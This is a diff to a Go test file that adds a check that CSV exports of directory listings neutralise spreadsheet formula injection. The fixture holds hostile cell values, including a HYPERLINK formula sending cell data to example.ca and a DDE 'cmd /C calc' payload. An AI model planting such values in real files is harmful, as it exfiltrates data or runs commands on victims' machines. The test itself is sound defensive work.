@@ -8,12 +8,14 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
 
 	"relais/internal/directory/directorytest/hsdstest"
+	"relais/internal/directory/hsds"
 	"relais/internal/directory/hsds/read"
 	"relais/internal/directory/hsds/write"
 )
@@ -104,4 +106,47 @@ func unzip(t testing.TB, data []byte, name string) []byte {
 		t.Fatal(err)
 	}
 	return out
+}
+
+// TestAttackFormulas: what a listing says is never run by the spreadsheet that
+// opens the export, and comes back to the letter.
+func TestAttackFormulas(t *testing.T) {
+	evil := "=HYPERLINK(\"https://example.ca/?\"&A1,\"open\")"
+	doc := `{"id":"a-service","name":` + strconv.Quote(evil) + `,"description":"@SUM(1+1)","email":"+1+cmd|' /C calc'!A0","status":"active",` +
+		`"extra_note":"-1+2","organization":{"id":"an-organization","name":"=1+1","description":"plain"},` +
+		`"phones":[{"id":"a-phone","number":"+1 819-555-0142"}]}`
+	records, rep := hsdstest.Read(t, []byte(doc))
+	if len(records) == 0 || rep.Refused != 0 {
+		t.Fatalf("%d records: %+v", len(records), rep)
+	}
+	z := hsdstest.Write(t, write.FormTabular, records)
+	again, _ := hsdstest.Read(t, z)
+	if diff := cmp.Diff(hsdstest.Digests(records), hsdstest.Digests(again)); diff != "" {
+		t.Error(diff)
+	}
+	r, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cells, phones := 0, 0
+	for _, f := range r.File {
+		if filepath.Ext(f.Name) != ".csv" {
+			continue
+		}
+		rows, err := csv.NewReader(bytes.NewReader(unzip(t, z, f.Name))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, cell := range slices.Concat(rows...) {
+			if cells++; hsds.IsFormula(cell) {
+				t.Errorf("%s: %q is run", f.Name, cell)
+			}
+			if cell == "+1 819-555-0142" {
+				phones++
+			}
+		}
+	}
+	if cells < 20 || phones != 1 {
+		t.Errorf("%d cells, the telephone %d times", cells, phones)
+	}
 }
